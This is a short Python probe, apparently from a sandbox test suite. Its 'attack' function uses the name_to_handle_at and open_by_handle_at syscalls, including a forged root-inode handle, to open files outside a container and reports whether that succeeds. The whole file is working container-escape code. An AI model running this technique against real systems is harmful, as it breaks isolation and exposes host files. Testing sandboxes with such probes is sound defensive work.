"""Open a file by its handle, which needs no path."""

import ctypes
import os

NUMBERS = {"x86_64": (303, 304), "aarch64": (264, 265)}


def attack():
    to_handle, open_handle = (ctypes.c_long(number) for number in NUMBERS[os.uname().machine])
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little"), 136)
    mount = ctypes.c_int()
    for path in (b"/", os.__file__.encode(), b"/dev/null", os.path.dirname(os.__file__).encode()):
        libc.syscall(to_handle, -100, path, handle, ctypes.byref(mount), 0)
        for directory in (-100, os.open(os.__file__, os.O_RDONLY)):
            # inode 2 is the root of most file systems
            for inode in (handle.raw, (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little")):
                descriptor = libc.syscall(open_handle, directory, inode, os.O_RDONLY)
                if descriptor >= 0:
                    return f"opened a file by its handle: {os.fstat(descriptor)}"
